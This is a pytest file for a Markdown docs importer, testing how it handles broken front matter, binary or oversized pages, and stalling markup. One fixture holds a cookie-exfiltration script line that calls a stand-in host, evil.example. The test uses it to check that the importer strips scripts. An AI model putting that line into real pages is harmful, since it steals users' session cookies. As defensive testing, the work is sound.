"""Importing hostile docs folders: broken front matter, binary and huge pages, markup built to
stall the converter, all reported by file and line and all at once."""

from __future__ import annotations

from tests.importers.test_docs_markdown_import import Tree, problems_in, read, warnings_in

# -- hostile input ------------------------------------------------------------------------------


def test_broken_front_matter_is_reported_with_file_and_line_all_at_once(write_tree: Tree) -> None:
    root = write_tree(
        {
            "docs/a.md": "---\ntitle: A\ntags: [x\n---\nText\n",
            "docs/b.md": "+++\ntitle = 'B'\nweight = = 3\n+++\nText\n",
            "docs/c.md": "---\ntitle: C\nText without a closing line\n",
            "docs/d.md": "---\ntitle: [not, one, line]\n---\nText\n",
            "docs/ok.md": "---\ntitle: OK\n---\nText\n",
        }
    )
    found = problems_in(root)
    assert [(name, line) for name, line, _m in found] == [
        ("a.md", 4),
        ("b.md", 3),
        ("c.md", 1),
        ("d.md", 2),
    ]
    assert found[0][2].startswith("invalid YAML")
    assert found[1][2].startswith("invalid TOML front matter")
    assert "not closed" in found[2][2]
    assert found[3][2] == "must be a single line of text"


def test_binary_and_non_utf8_pages_are_refused(write_tree: Tree) -> None:
    root = write_tree({"docs/ok.md": "# OK\nText\n"})
    (root / "docs" / "image.md").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
    (root / "docs" / "latin1.md").write_bytes("# Caf\xe9\nline\n\xe9t\xe9\n".encode("latin-1"))
    assert problems_in(root) == [
        ("image.md", 1, "is a binary file, not Markdown text"),
        ("latin1.md", 1, "not UTF-8 text (byte 5)"),
    ]


def test_a_ten_megabyte_page_is_refused_quickly_naming_the_file(write_tree: Tree) -> None:
    root = write_tree({"docs/ok.md": "# OK\nText\n"})
    (root / "docs" / "huge.md").write_text("# Huge\n" + "word " * 2_000_000, encoding="utf-8")
    [(name, _line, message)] = problems_in(root)
    assert name == "huge.md" and "10,000,007 bytes; a page may have 2 MB" in message


def test_hostile_markup_does_not_stall_or_lose_text(write_tree: Tree) -> None:
    nested = ":::note\n" * 300 + "deep text\n" + ":::\n" * 300
    shortcodes = "{{< tabs >}}\n" * 2000 + "kept text\n" + "{{< /tabs >}}\n" * 2000
    root = write_tree({"docs/nested.md": nested, "docs/codes.md": shortcodes})
    found = {i.document.source.id: i.document for i in read(root).units}  # type: ignore[union-attr]
    assert "deep text" in found["docs/nested.md"].body
    assert found["docs/codes.md"].body == "kept text"


def test_an_empty_page_is_skipped_with_a_warning(write_tree: Tree) -> None:
    root = write_tree({"docs/_index.md": "---\ntitle: Section\n---\n", "docs/a.md": "Text\n"})
    batch = read(root)
    assert [i.document.id for i in batch.units] == ["docs-a"]
    assert ("_index.md", 1, "the page has no text; it is not imported") in warnings_in(batch)


def test_scripts_and_styles_are_dropped_with_what_they_hold(write_tree: Tree) -> None:
    page = (
        "Before.\n\n<script>\nfetch('https://evil.example/?c=' + document.cookie)\n</script>\n"
        "<style>body { display: none }</style>\n<script src=x.js></script>\n\nAfter.\n"
    )
    batch = read(write_tree({"docs/page.md": page}))
    assert batch.units[0].document.body == "Before.\n\nAfter."
    assert [(line, message) for _f, line, message in warnings_in(batch)] == [
        (3, "<script> removed with what it holds"),
        (6, "<style> removed with what it holds"),
        (7, "<script> removed with what it holds"),
    ]


def test_a_jsx_tag_over_several_lines_is_removed_whole(write_tree: Tree) -> None:
    page = (
        'Pick your system.\n\n<Tabs\n  groupId="os"\n  defaultValue="linux">\n'
        '<TabItem value="linux" label="Linux">\n\nRun it.\n\n</TabItem>\n</Tabs>\n'
    )
    batch = read(write_tree({"docs/page.mdx": page}))
    assert batch.units[0].document.body == "Pick your system.\n\n**Linux**\n\nRun it."
    assert [line for _f, line, _m in warnings_in(batch)] == [3, 6]


def test_prose_that_looks_like_a_snippet_is_kept_as_text(write_tree: Tree) -> None:
    page = "Hugo writes {{ price }} in templates.\n"
    doc = read(write_tree({"docs/page.md": page})).units[0].document
    assert doc.snippet_names == frozenset()
    assert doc.body == "Hugo writes \\{\\{ price }} in templates."
